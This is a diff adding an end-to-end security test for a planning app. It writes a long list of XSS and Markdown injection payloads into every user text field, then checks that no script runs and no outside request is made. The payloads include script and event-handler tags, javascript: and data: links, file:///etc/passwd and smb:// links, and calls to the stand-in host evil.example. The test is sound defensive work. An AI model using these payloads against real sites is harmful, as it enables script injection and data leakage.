@@ -1,0 +1,170 @@
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { askLocally } from './support/packed';
+import { taskTitle } from './support/guide';
+import { boxOf, detailsOf, goTo, startPlan, type ViewName } from './support/page';
+import { setUpWorld } from './support/world';
+
+const RUN = 'window.__ran=1';
+const ELSEWHERE = 'https://evil.example';
+
+/** What was tried on other programs that show Markdown, links and titles. Each would run `RUN`, or ask `ELSEWHERE`. */
+const PAYLOADS = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt src="${ELSEWHERE}/x.js"></sCrIpT>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src="${ELSEWHERE}/pixel.png">`,
+  `<svg onload="${RUN}">`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
+  `<math><mtext><style><img src=x onerror="${RUN}"></style></mtext></math>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<object data="${ELSEWHERE}/x.swf"></object>`,
+  `<embed src="${ELSEWHERE}/x.swf">`,
+  `<link rel=stylesheet href="${ELSEWHERE}/x.css">`,
+  `<style>@import "${ELSEWHERE}/x.css";</style>`,
+  `<base href="${ELSEWHERE}/">`,
+  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
+  `<form action="${ELSEWHERE}"><button autofocus>x</button></form>`,
+  `<details open ontoggle="${RUN}">x</details>`,
+  `<video><source onerror="${RUN}"></video>`,
+  `<audio src=x onerror="${RUN}">`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<body onload="${RUN}">`,
+  `<marquee onstart="${RUN}">x</marquee>`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href="java&#10;script:${RUN}">x</a>`,
+  `<div style="background:url(${ELSEWHERE}/x)">x</div>`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `--><img src=x onerror=${RUN}>`,
+  `"><img src=x onerror=${RUN}>`,
+  `'-${RUN}-'`,
+  `</textarea><script>${RUN}</script>`,
+  `</title><script>${RUN}</script>`,
+  `[x](javascript:${RUN})`,
+  `[x](JaVaScRiPt:${RUN})`,
+  `[x](java\tscript:${RUN})`,
+  `[x](\u0001javascript:${RUN})`,
+  `[x](javascript&colon;${RUN})`,
+  `[x](&#106;avascript:${RUN})`,
+  `[x](vbscript:${RUN})`,
+  `[x](data:text/html,<script>${RUN}</script>)`,
+  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  `[x](file:///etc/passwd)`,
+  `[x](smb://evil.example/share)`,
+  `[x](ms-msdt:/id)`,
+  `[x](blob:${ELSEWHERE}/1)`,
+  `[x](https://good.example@evil.example/)`,
+  `[x](//evil.example/x)`,
+  `<javascript:${RUN}>`,
+  `[x]: javascript:${RUN}\n\n[x]`,
+  `![x](${ELSEWHERE}/pixel.png)`,
+  `![x](javascript:${RUN})`,
+  `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
+  `![x][1]\n\n[1]: ${ELSEWHERE}/pixel.png`,
+  `[![x](${ELSEWHERE}/pixel.png)](javascript:${RUN})`,
+  `${ELSEWHERE}/autolink"onmouseover="${RUN}`,
+  `www.evil.example/<img src=x onerror=${RUN}>`,
+  `| a |\n| - |\n| <img src=x onerror=${RUN}> |`,
+  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
+  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
+  `\u202Egnp.exe\u202C <img src=x onerror=${RUN}>`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+];
+
+const VIEWS: readonly ViewName[] = [
+  'Overview',
+  'Roadmap',
+  'Week',
+  'Timeline',
+  'Skills',
+  'Guide',
+  'History',
+  'Settings',
+];
+
+describe('texts that would be code elsewhere', () => {
+  const world = setUpWorld();
+  const asked: string[] = [];
+  let page: Page;
+
+  const ask = <Value>(name: string, input: unknown): Promise<Value> =>
+    askLocally<Value>(world.scratch.dataDir, name, input);
+
+  beforeAll(async () => {
+    page = await world.open();
+    page.on('request', (request) => asked.push(request.url()));
+    await startPlan(page);
+    await fillEverything();
+    await page.reload();
+  });
+  // A policy that had to refuse something would say so here.
+  afterAll(() => expect(world.faults).toEqual([]));
+
+  /** Every payload into every field that takes words of one's own. */
+  async function fillEverything(): Promise<void> {
+    const { records } = await ask<{ records: Records }>('app.open', {});
+    const [plan] = records.plan;
+    const planId = plan?.id ?? '';
+    const phaseId = records.phase[0]?.id ?? '';
+    const taskId = records.task.find(({ title }) => title === taskTitle(0, 0))?.id ?? '';
+    const week = plan?.startDay ?? '';
+    const all = PAYLOADS.join('\n\n');
+    await ask('task.note', { planId, taskId, note: all });
+    await ask('checklist.add', { planId, taskId, titles: PAYLOADS.slice(0, 50).map(oneLine) });
+    await ask('review.write', { planId, week, wentWell: all, learned: all });
+    for (const payload of PAYLOADS) {
+      const title = oneLine(payload);
+      await ask('task.add', { planId, phaseId, title, plannedWeeks: 0.1 });
+      await ask('pause.add', { planId, first: '2030-01-01', last: '2030-01-02', reason: title });
+    }
+    await ask('plan.change', { planId, title: oneLine(PAYLOADS[2] ?? '') });
+    await ask('phase.edit', { planId, phaseId, title: oneLine(PAYLOADS[9] ?? '') });
+    const harmful = PAYLOADS.map((payload) => /\(([a-z-]+:[^)]*)\)/i.exec(payload)?.[1] ?? payload);
+    // Fields that are addresses take none that is no address of a page.
+    for (const url of harmful.filter((each) => !/^https?:\/\/[^@]*$/i.test(each)))
+      await expect(ask('evidence.add', { planId, taskId, url, title: 'x' })).rejects.toThrow();
+  }
+
+  it.each(VIEWS)('run nothing and ask nobody in %s', async (view) => {
+    await goTo(page, view);
+    await page.waitForTimeout(150);
+    expect(await page.evaluate(() => '__ran' in window)).toBe(false);
+    expect(asked.filter((url) => !url.startsWith(world.waymark.origin))).toEqual([]);
+  });
+
+  it('come to no element and no link that could do harm, in a note that is read', async () => {
+    await goTo(page, 'Roadmap');
+    await boxOf(page, taskTitle(0, 0)).focus();
+    await page.keyboard.press('o');
+    const details = detailsOf(page, taskTitle(0, 0));
+    await details.getByRole('button', { name: 'Edit note' }).waitFor();
+    const harmful =
+      'script, iframe, object, embed, link, style, base, meta, form form, img, video, audio, svg script, math';
+    expect(await details.locator(harmful).count()).toBe(0);
+    const links = await details
+      .getByRole('link')
+      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href));
+    expect(links.filter((href) => !/^(?:https?|mailto):/.test(href))).toEqual([]);
+    expect(links.filter((href) => href.includes('@'))).toEqual([]);
+    const handlers = await details.evaluate((element) =>
+      [...element.querySelectorAll('*')].flatMap(({ attributes }) =>
+        [...attributes].map(({ name }) => name).filter((name) => name.startsWith('on')),
+      ),
+    );
+    expect(handlers).toEqual([]);
+    expect(await page.evaluate(() => '__ran' in window)).toBe(false);
+    expect(asked.filter((url) => !url.startsWith(world.waymark.origin))).toEqual([]);
+  });
+});
+
+interface Records {
+  readonly plan: readonly { readonly id: string; readonly startDay: string }[];
+  readonly phase: readonly { readonly id: string }[];
+  readonly task: readonly { readonly id: string; readonly title: string }[];
+}
+
+const oneLine = (text: string): string => text.replaceAll(/\s+/g, ' ');
